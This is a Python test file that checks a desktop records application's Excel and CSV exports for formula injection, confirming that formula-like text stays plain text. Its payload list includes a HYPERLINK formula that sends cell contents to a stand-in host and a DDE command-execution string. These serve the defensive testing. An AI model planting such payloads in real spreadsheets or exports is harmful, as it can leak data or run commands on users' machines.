"""Text that looks like a formula stays text in every file the program writes for Excel/WPS.

Every text column of every kind of record (the limits table names them all) is filled with a
formula-like text, the workbooks and CSV files are written, and no cell of them is a formula.
"""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import timedelta

import openpyxl
import pytest

from desktop.core import clock
from desktop.core.cells import csv_field
from desktop.core.entities import Talk
from desktop.core.limits import FIELD_LIMITS, LIST
from desktop.db import audit
from desktop.db.opening import open_database
from desktop.db.records import update_record
from desktop.domain import areas, campaigns, officers, partners, statistics, talks, warnings
from desktop.exchange.workbook import export_workbook

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&B2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
]
NOW = clock.now().replace(microsecond=0) - timedelta(days=2)
# Columns a person never types: codes from a catalogue, JSON lists, file paths and digests.
NOT_TYPED = {("warnings", "fraud_type"), ("attachments", "kind"), ("attachments", "path"),
             ("attachments", "sha256")}  # fmt: skip
# Formulas the program itself writes into its workbooks: none.
OWN_FORMULAS: set[tuple[str, str]] = set()


def _fill(database, table: str, record_id: str, text: str) -> None:
    """Every typed text column of one record set to ``text``, through the records layer."""
    changes = {
        column: text
        for column, limit in FIELD_LIMITS[table].items()
        if limit is not LIST and (table, column) not in NOT_TYPED
    }
    if table == "residents":
        changes.pop("mobile")  # a mobile is checked as a mobile; it is shown masked or as typed
        changes.pop("id_number")
    if table == "areas":
        changes.pop("code")
    update_record(database, table, record_id, changes)


def _database_of(tmp_path, text: str):
    database = open_database(tmp_path / "formula.sqlite3")
    county = areas.add_area(database, name="平安县", level="county")
    town = areas.add_area(database, name="城关镇", level="township", parent_id=county)
    community = areas.add_area(database, name="东门社区", level="community", parent_id=town)
    officer = officers.add_officer(database, {"name": "李警官", "badge_number": "012345"})
    partner = partners.add_partner(database, {"name": "农商银行", "kind": "bank_outlet"})
    warning = warnings.intake(
        database,
        {"name": "王秀英", "mobile": "13800138000", "source": "platform", "level": "high",
         "received_at": NOW, "area_id": community, "reference_number": "YJ-1"},
        now=NOW,
    )  # fmt: skip
    resident = database.scalar("SELECT resident_id FROM warnings WHERE id = ?", (warning,))
    contact = warnings.record_contact(
        database, warning, method="phone", result="reached", at=NOW + timedelta(minutes=5)
    )
    follow_ups = warnings.close_warning(
        database, warning, outcome="dissuaded", despite=("no_contact", "closed_at_once"), now=NOW
    )
    warnings.transfer_warning(database, warning, reason="调岗", officer_id=officer, now=NOW)
    talk = talks.save_talk(
        database,
        Talk(title="讲座", starts_at=NOW, ends_at=NOW + timedelta(hours=1), venue="活动室",
             area_id=community),
    )  # fmt: skip
    campaign = campaigns.add_campaign(
        database, {"on_date": NOW.date(), "area_id": community, "kind": "posters", "count": 3}
    )
    records = {"areas": [county, town, community], "officers": [officer], "partners": [partner],
               "warnings": [warning], "residents": [resident], "contacts": [contact],
               "follow_ups": follow_ups, "talks": [talk], "campaigns": [campaign],
               "transfers": [database.scalar("SELECT id FROM transfers")]}  # fmt: skip
    for table, ids in records.items():
        for record_id in ids:
            _fill(database, table, record_id, text)
    return database


def _formulas(path) -> list[str]:
    found = []
    workbook = openpyxl.load_workbook(path)  # not read-only: data_type is the file's own
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and (ws.title, cell.coordinate) not in OWN_FORMULAS:
                    found.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name)):
                found.append(f"{name} holds a formula element")
    return found


@pytest.mark.parametrize("text", PAYLOADS)
@pytest.mark.parametrize("full", [False, True], ids=["masked", "revealed"])
def test_the_workbook_holds_no_formula(tmp_path, text, full):
    database = _database_of(tmp_path, text)
    out = tmp_path / "figures.xlsx"
    period = statistics.Period(NOW.date() - timedelta(days=30), clock.today())
    counts = export_workbook(database, period, out, full=full, reason="核查" if full else "")
    assert counts["预警明细"] == 1 and counts["宣传活动明细"] == 1
    assert _formulas(out) == []
    values = {
        cell.value
        for ws in openpyxl.load_workbook(out).worksheets
        for row in ws.iter_rows()
        for cell in row
    }
    assert text in values  # the talk's title, kept as the text it is
    database.close()


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_audit_csv_marks_formula_text(tmp_path, text):
    database = _database_of(tmp_path, text)
    audit.record(database, "update", "talks", "", text)  # a summary holds titles as typed
    out = tmp_path / "audit.csv"
    audit.export_csv(database, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert "'" + text in fields
    assert not [field for field in fields if field.startswith(("=", "+", "-", "@", "\t", "\r"))]
    database.close()


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r@x", "'\r@x"), ("-", "'-"), ("王 -1", "王 -1"),
     ("＝SUM(A1)", "'＝SUM(A1)"), ("\n=1", "'\n=1"), ("＋1", "'＋1"),
     ("", ""), (-5, -5), (None, None)],
)  # fmt: skip
def test_csv_field(value, written):
    assert csv_field(value) == written
